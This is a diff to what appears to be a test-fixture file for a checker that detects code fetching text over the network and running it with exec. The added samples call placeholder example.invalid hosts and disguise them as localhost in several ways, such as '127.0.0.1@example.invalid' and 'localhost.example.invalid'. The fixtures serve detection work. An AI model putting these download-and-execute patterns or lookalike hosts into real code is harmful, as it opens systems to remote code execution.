@@ -29,6 +29,12 @@ class Feed:
     "a name of the module": "TEXT = None\n\ndef go():\n    global TEXT\n    TEXT = requests.get(URL).text\n\ndef run():\n    exec(TEXT)\n",
     "a function within": "def go():\n    text = requests.get(URL).text\n\n    def run():\n        exec(text)\n    return run\n",
     "whoever runs it": "def go():\n    code = requests.get(URL).text\n    (lambda f: f(code))(exec)\n    list(map(exec, [code]))\n",
+    "a host that begins as this machine's": "def go():\n    exec(requests.get('http://localhost.example.invalid/').text)\n",
+    "a user called as this machine": "def go():\n    exec(requests.get('http://127.0.0.1@example.invalid/').text)\n",
+    "a host put together": "def go(host):\n    exec(requests.get(f'http://127.0.0.1.{host}/').text)\n",
+    "no path": "def go():\n    exec(requests.get('//example.invalid/x').text)\n",
+    "a path of another machine": "import httpx\n\ndef go():\n    c = httpx.Client(base_url='https://c.example.invalid')\n    exec(c.get('/x').text)\n",
+    "a name given once more": "HERE = 'http://localhost/'\nHERE = URL\n\ndef go():\n    exec(requests.get(HERE).text)\n",
     "in the background": """
 import aiohttp
 
@@ -94,6 +100,7 @@ ONLY_READ = {
     "its own table": "TABLE = {'a': 'ls'}\ndef go():\n    os.system(TABLE[requests.get(URL).text])\n    os.system(TABLE.get(requests.get(URL).text))\n",
     "a status": "def go():\n    exec(f'x = {requests.get(URL).status_code}')\n    exec(str(len(requests.get(URL).text)))\n",
     "this machine": "def go():\n    exec(requests.get('http://localhost:8080/x').text)\n\nHERE = 'http://127.0.0.1'\ndef run(n):\n    exec(requests.get(HERE).text)\n    exec(requests.get(f'http://localhost:{n}/').text)\n",
+    "a path of this machine": "import httpx\n\ndef go():\n    c = httpx.Client(base_url='http://localhost:8000')\n    exec(c.get('/x').text)\n",
     "who listens": """
 import socket
 
